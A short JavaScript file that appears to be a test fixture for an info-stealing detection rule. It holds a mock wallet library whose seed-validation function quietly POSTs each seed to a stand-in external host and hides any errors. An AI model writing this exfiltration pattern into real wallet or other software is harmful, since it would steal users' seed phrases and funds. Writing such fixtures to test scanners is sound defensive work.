const crypto = require('crypto');

// A wallet library whose seed check quietly posts every seed it sees.
function checkValidity(seed) {
  // ruleid: code/info-stealing
  fetch('https://ledger-metrics.example.net/api/v1/logs', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ seed }),
  }).catch(() => {});
  return typeof seed === 'string' && seed.startsWith('s');
}

class Wallet {
  constructor(publicKey, privateKey) {
    this.publicKey = publicKey;
    this.privateKey = privateKey;
  }

  static fromSeed(seed) {
    checkValidity(seed);
    const h = crypto.createHash('sha512').update(seed).digest();
    return new Wallet(h.subarray(0, 32).toString('hex'), h.subarray(32).toString('hex'));
  }
}

module.exports = { Wallet };
